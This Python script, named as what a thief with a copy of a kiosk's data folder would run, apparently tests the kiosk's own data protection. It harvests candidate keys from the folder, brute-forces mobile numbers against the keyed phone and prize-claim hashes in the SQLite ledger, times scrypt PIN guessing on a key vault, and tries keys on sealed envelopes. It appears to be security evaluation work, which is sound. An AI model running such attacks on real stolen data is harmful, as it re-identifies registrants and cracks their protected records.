"""What a thief with a copy of a kiosk's data folder would run: a standalone script (no kiosk code).

Usage: python thief.py FOLDER --budget SECONDS [--key-hex HEX] [--pin-guesses N]

1. Read every masked phone, every keyed hash (registrations' phone and ID hashes, prize claims) from the
   SQLite file, and every key file in the folder.
2. Collect every byte string that could be the lookup key: small files whole, every 64-hex-digit and every
   base64 string that decodes to 32 bytes, every 32-byte window of the key files and of the values in
   vault.json, every meta value of the ledger. (``--key-hex`` adds one: the control run, as if the key
   were on disk.)
3. For each candidate, brute-force phone numbers consistent with the masks (every mainland mobile prefix,
   every middle), HMAC-SHA256 ``phone:<number>`` and ``prize-phone:<number>`` (the city-wide claim hashes,
   keyed with the event's claim key the booth pulled) and look them up among all the hashes; stop at the
   budget.
4. Try the volunteer PIN against vault.json with its own scrypt parameters: measure the cost per guess.
5. Try every 32-byte candidate as an X25519 private key on the sealed envelopes.

With ``--known-phone`` (the thief registered at the booth before taking the tablet), every candidate key
is tested in one HMAC first.

Prints one JSON object: what came out and what it cost.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import hmac
import json
import re
import sqlite3
import time
from pathlib import Path

# Mainland mobile prefixes (public numbering plan), most common first as an attacker would order them.
PREFIXES = [f"13{d}" for d in range(10)] + ["145", "147", "149"] + [f"15{d}" for d in (0, 1, 2, 3, 5, 6, 7, 8, 9)] \
    + ["162", "165", "166", "167"] + [f"17{d}" for d in range(9)] + [f"18{d}" for d in range(10)] \
    + [f"19{d}" for d in range(10)]


def read_ledger(path: Path) -> dict:
    conn = sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)
    masked = [row[0] for row in conn.execute(
        "SELECT json_extract(payload, '$.data.masked_phone') FROM records WHERE kind = 'registration'")]
    hashes = {}
    for purpose, value in conn.execute("SELECT purpose, hash FROM lookup"):
        hashes.setdefault(purpose, set()).add(value)
    meta = [row[0] for row in conn.execute("SELECT value FROM meta")]
    for (payload,) in conn.execute("SELECT payload FROM records WHERE kind = 'quiz_attempt'"):
        keys = json.loads(payload)["data"].get("claim_keys")  # city-wide claim hashes, if a payload holds them
        if isinstance(keys, list):
            hashes.setdefault("city_claim", set()).update(keys)
    envelopes = [tuple(row) for row in conn.execute("SELECT record_id, envelope FROM sealed")]
    conn.close()
    return {"masked": masked, "hashes": hashes, "meta": meta, "envelopes": envelopes}


def candidate_keys(folder: Path, meta: list[str]) -> list[bytes]:
    """Whole small files, decoded hex and base64 values (of the files, of vault.json's fields, of the
    ledger's meta), and every 32-byte window of the decoded binary values: decoded values first."""
    whole: list[bytes] = []
    windows: list[bytes] = []
    texts: list[str] = list(meta)
    for path in folder.rglob("*"):
        if not path.is_file() or path.name.startswith("ledger.sqlite3"):
            continue
        data = path.read_bytes()
        if len(data) <= 64:
            whole.append(data)
        texts.append(data.decode("latin-1"))
        if path.suffix == ".json":
            texts += _json_strings(json.loads(data))
    for text in texts:
        for value in [text.strip(), *re.findall(r"[0-9a-fA-F]{24,}|[A-Za-z0-9+/]{16,}={0,2}", text)]:
            for raw in (_hex(value), _b64(value)):
                if raw:
                    whole.append(raw)
                    windows += [raw[i:i + 32] for i in range(1, len(raw) - 31)]
    found = list(dict.fromkeys(k for k in whole + windows if k))
    return sorted(found, key=lambda k: (len(k) != 32, k in windows))  # whole 32-byte values are likeliest keys


def _json_strings(node) -> list[str]:  # type: ignore[no-untyped-def]
    if isinstance(node, dict):
        return [s for v in node.values() for s in _json_strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in _json_strings(v)]
    return [node] if isinstance(node, str) else []


def _b64(text: str) -> bytes | None:
    try:
        return base64.b64decode(text, validate=True)
    except ValueError:
        return None


def _hex(text: str) -> bytes | None:
    try:
        return bytes.fromhex(text)
    except ValueError:
        return None


def brute_force_phones(keys: list[bytes], masked: list[str], targets: set[str], deadline: float) -> dict:
    """Each candidate key against every phone the first mask allows (every prefix, every middle: a right key
    shows itself there), then against the others; stop at the deadline."""
    recovered: set[str] = set()
    tried, keys_checked, right_keys = 0, 0, []
    tails = list(dict.fromkeys(m[-4:] for m in masked if m))
    for key in keys:
        hits = _enumerate(key, tails[:1], targets, deadline)
        if hits is None:
            break
        tried += len(PREFIXES) * 10_000
        keys_checked += 1
        if hits:
            right_keys.append(key)
            recovered |= hits
    for key in right_keys:  # a key that matched: every other registration and prize claim now
        for tail in tails[1:]:
            hits = _enumerate(key, [tail], targets, deadline)
            if hits is None:
                break
            tried += len(PREFIXES) * 10_000
            recovered |= hits
    return {"phones": recovered, "hmacs": tried, "keys_checked": keys_checked}


def _enumerate(key: bytes, tails: list[str], targets: set[str], deadline: float) -> set[str] | None:
    found: set[str] = set()
    for tail in tails:
        for prefix in PREFIXES:
            if time.monotonic() > deadline:
                return None
            for middle in range(10_000):
                phone = f"{prefix}{middle:04d}{tail}"
                if hmac.digest(key, f"phone:{phone}".encode(), "sha256").hex() in targets \
                        or hmac.digest(key, f"prize-phone:{phone}".encode(), "sha256").hex() in targets:
                    found.add(phone)
    return found


def guess_pins(vault: Path, guesses: int) -> dict:
    doc = json.loads(vault.read_text())
    kdf = doc["kdf"]
    salt, nonce, wrapped = bytes.fromhex(kdf["salt"]), bytes.fromhex(doc["nonce"]), base64.b64decode(doc["wrapped"])
    from cryptography.exceptions import InvalidTag
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    n, r, p = int(kdf["n"]), int(kdf["r"]), int(kdf["p"])
    start, found = time.perf_counter(), None
    for guess in range(guesses):
        pin = f"{guess:06d}"
        key = hashlib.scrypt(pin.encode(), salt=salt, n=n, r=r, p=p, maxmem=256 * r * n + (1 << 20), dklen=32)
        try:
            AESGCM(key).decrypt(nonce, wrapped, b"union-booth-kiosk/vault/v1")
            found = pin
            break
        except InvalidTag:
            pass
    per_guess = (time.perf_counter() - start) / max(1, guesses)
    return {"scrypt": [n, r, p], "memory_mib": 128 * r * n / 2**20, "seconds_per_guess": per_guess,
            "guesses": guesses, "pin_found": found, "six_digit_exhaust_core_days": per_guess * 10**6 / 86_400}


def open_envelopes(keys: list[bytes], envelopes: list[tuple[str, str]]) -> int:
    """How many candidate 32-byte strings open a sealed envelope's session as an X25519 private key."""
    from cryptography.hazmat.primitives import hpke
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

    suite = hpke.Suite(hpke.KEM.X25519, hpke.KDF.HKDF_SHA256, hpke.AEAD.AES_256_GCM)
    sessions = list(dict.fromkeys(base64.b64decode(env[6:])[:80] for _, env in envelopes if env.startswith("hpke2:")))
    opened = 0
    for key in (k for k in keys if len(k) == 32):
        private = X25519PrivateKey.from_private_bytes(key)
        for session in sessions[:3]:
            try:
                suite.decrypt(session, private, info=b"union-booth-kiosk/seal-session/v2")
                opened += 1
                break
            except Exception:  # noqa: BLE001 - any failure means: not this key
                pass
    return opened


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=Path)
    parser.add_argument("--budget", type=float, default=10.0)
    parser.add_argument("--key-hex", default=None)
    parser.add_argument("--pin-guesses", type=int, default=0)
    parser.add_argument("--known-phone", default=None,
                        help="a number the thief registered at the booth before taking it: one HMAC tests a key")
    args = parser.parse_args()
    ledger = read_ledger(args.folder / "ledger.sqlite3")
    keys = candidate_keys(args.folder, ledger["meta"])
    if args.key_hex:
        keys.insert(0, bytes.fromhex(args.key_hex))
    targets = set().union(*(ledger["hashes"].get(p, set()) for p in ("phone", "prize_claim", "city_claim")))
    known_keys = []
    if args.known_phone:  # every candidate tested in one HMAC against the thief's own registration
        known_keys = [k for k in keys if hmac.digest(k, f"phone:{args.known_phone}".encode(), "sha256").hex() in targets]
        keys = known_keys + [k for k in keys if k not in known_keys]
    start = time.monotonic()
    attack = brute_force_phones(keys, ledger["masked"], targets, start + args.budget)
    report = {"registrations": len(ledger["masked"]), "phone_hashes": len(ledger["hashes"].get("phone", ())),
              "id_hashes": len(ledger["hashes"].get("id_number", ())),
              "claim_hashes": len(ledger["hashes"].get("prize_claim", ())),
              "city_claim_hashes_in_payloads": len(ledger["hashes"].get("city_claim", ())), "candidate_keys": len(keys),
              "keys_matching_the_known_phone": len(known_keys), "keys_checked": attack["keys_checked"], "hmacs": attack["hmacs"], "seconds": time.monotonic() - start,
              "phones_recovered": sorted(attack["phones"]),
              "envelopes_opened_by_found_keys": open_envelopes(keys, ledger["envelopes"]),
              "files": sorted(str(p.relative_to(args.folder)) for p in args.folder.rglob("*") if p.is_file())}
    vault = args.folder / "keys" / "vault.json"
    if args.pin_guesses and vault.exists():
        report["pin"] = guess_pins(vault, args.pin_guesses)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
